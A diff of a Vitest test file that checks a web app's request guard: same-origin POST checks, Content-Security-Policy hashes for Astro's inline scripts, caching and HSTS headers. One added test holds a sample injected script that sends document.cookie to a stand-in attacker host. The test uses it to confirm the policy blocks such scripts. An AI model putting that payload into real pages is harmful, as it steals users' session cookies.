@@ -1,43 +1,70 @@
+import islandScript from 'astro/runtime/server/astro-island.prebuilt.js';
+import loadDirective from 'astro/client/load.prebuilt.js';
 import { describe, expect, it } from 'vitest';
-import { contentSecurityPolicy, inlineScriptHashes, isSameOriginWrite, withSecurityHeaders } from '../../../src/lib/server/request-guard';
+import { CONTENT_SECURITY_POLICY, isSameOriginWrite, securityHeaders, withSecurityHeaders } from '../../../src/lib/server/request-guard';
 
 const post = (headers: Record<string, string>) => new Request('http://127.0.0.1:4321/api/x', { method: 'POST', headers });
+const ORIGIN = 'http://127.0.0.1:4321';
+
+/** CSP Level 3 §8.2 source expression, computed independently through WebCrypto: 'sha256-' + base64 of the UTF-8 script text. */
+async function sourceExpression(script: string): Promise<string> {
+  const digest = Buffer.from(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(script))).toString('base64');
+  return `'sha256-${digest}'`;
+}
 
 describe('isSameOriginWrite', () => {
   it('refuses a cross-site POST and allows same-origin, safe methods and non-browser clients', () => {
-    expect(isSameOriginWrite(post({ origin: 'http://evil.example' }))).toBe(false);
-    expect(isSameOriginWrite(post({ 'sec-fetch-site': 'cross-site' }))).toBe(false);
-    expect(isSameOriginWrite(post({ origin: 'http://127.0.0.1:4321' }))).toBe(true);
-    expect(isSameOriginWrite(post({}))).toBe(true);
-    expect(isSameOriginWrite(new Request('http://127.0.0.1:4321/', { headers: { origin: 'http://evil.example' } }))).toBe(true);
+    expect(isSameOriginWrite(post({ origin: 'http://evil.example' }), ORIGIN)).toBe(false);
+    expect(isSameOriginWrite(post({ 'sec-fetch-site': 'cross-site' }), ORIGIN)).toBe(false);
+    expect(isSameOriginWrite(post({ origin: ORIGIN }), ORIGIN)).toBe(true);
+    expect(isSameOriginWrite(post({}), ORIGIN)).toBe(true);
+    expect(isSameOriginWrite(new Request(`${ORIGIN}/`, { headers: { origin: 'http://evil.example' } }), ORIGIN)).toBe(true);
   });
-});
 
-describe('inlineScriptHashes', () => {
-  it('hashes inline scripts as CSP Level 3 source expressions and skips external ones', async () => {
-    const body = 'customElements.define("x-y", class extends HTMLElement {});';
-    // Independent digest through WebCrypto; CSP3 §8.2: 'sha256-' + base64 of the UTF-8 script text.
-    const digest = Buffer.from(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(body))).toString('base64');
-    const html = `<head><script type="module" src="/a.js"></script><script>${body}</script></head>`;
-    expect(inlineScriptHashes(html)).toEqual([`'sha256-${digest}'`]);
+  it('compares with the public origin, not with the URL the server saw', () => {
+    const publicOrigin = 'https://slipless.example.org';
+    expect(isSameOriginWrite(post({ origin: publicOrigin }), publicOrigin)).toBe(true);
+    expect(isSameOriginWrite(post({ origin: ORIGIN }), publicOrigin)).toBe(false);
   });
 });
 
 describe('withSecurityHeaders', () => {
-  it('adds a policy without unsafe-inline scripts to HTML and leaves JSON alone', async () => {
-    const html = await withSecurityHeaders(new Response('<script>1</script>', { headers: { 'content-type': 'text/html' } }));
-    const policy = html.headers.get('content-security-policy') ?? '';
-    expect(policy).toMatch(/script-src 'self' 'sha256-[A-Za-z0-9+/=]+'/);
+  it("allows Astro's own inline scripts and never a script that came with the page's content", async () => {
+    const injected = 'fetch("https://evil.example/?" + document.cookie)';
+    const html = `<script>${islandScript}</script><p>Title</p><script>${injected}</script>`;
+    const response = withSecurityHeaders(new Response(html, { headers: { 'content-type': 'text/html' } }), { https: false, signedIn: false });
+    const policy = response.headers.get('content-security-policy') ?? '';
+    expect(policy).toContain(await sourceExpression(islandScript));
+    expect(policy).toContain(await sourceExpression(loadDirective));
+    expect(policy).not.toContain(await sourceExpression(injected));
     expect(policy).not.toMatch(/script-src[^;]*unsafe-inline/);
+    expect(policy).toBe(CONTENT_SECURITY_POLICY);
     expect(policy).toContain("frame-ancestors 'none'");
-    const json = await withSecurityHeaders(Response.json({ a: 1 }));
-    expect(json.headers.get('content-security-policy')).toBeNull();
-    expect(json.headers.get('x-content-type-options')).toBe('nosniff');
-    expect(contentSecurityPolicy([])).toContain("object-src 'none'");
+    expect(policy).toContain("object-src 'none'");
+    expect(await response.text()).toBe(html);
   });
 
-  it('copies responses whose headers are immutable, such as redirects', async () => {
-    const redirect = await withSecurityHeaders(Response.redirect('http://127.0.0.1/sign-in', 302));
+  it('leaves JSON without a policy but with the other headers', () => {
+    const json = withSecurityHeaders(Response.json({ a: 1 }), { https: false, signedIn: false });
+    expect(json.headers.get('content-security-policy')).toBeNull();
+    expect(json.headers.get('x-content-type-options')).toBe('nosniff');
+    expect(json.headers.get('cache-control')).toBeNull();
+  });
+
+  it('marks answers for a signed-in caller as not to be stored', () => {
+    const json = withSecurityHeaders(new Response('{}', { headers: { 'cache-control': 'max-age=600' } }), { https: false, signedIn: true });
+    expect(json.headers.get('cache-control')).toBe('no-store');
+  });
+
+  it('sends Strict-Transport-Security only for HTTPS', () => {
+    expect(securityHeaders(true)['Strict-Transport-Security']).toMatch(/^max-age=\d{7,}/);
+    expect(securityHeaders(false)).not.toHaveProperty('Strict-Transport-Security');
+    const response = withSecurityHeaders(new Response(null, { status: 404 }), { https: true, signedIn: false });
+    expect(response.headers.get('strict-transport-security')).toMatch(/^max-age=/);
+  });
+
+  it('copies responses whose headers are immutable, such as redirects', () => {
+    const redirect = withSecurityHeaders(Response.redirect('http://127.0.0.1/sign-in', 302), { https: false, signedIn: false });
     expect(redirect.status).toBe(302);
     expect(redirect.headers.get('location')).toBe('http://127.0.0.1/sign-in');
     expect(redirect.headers.get('x-frame-options')).toBe('DENY');
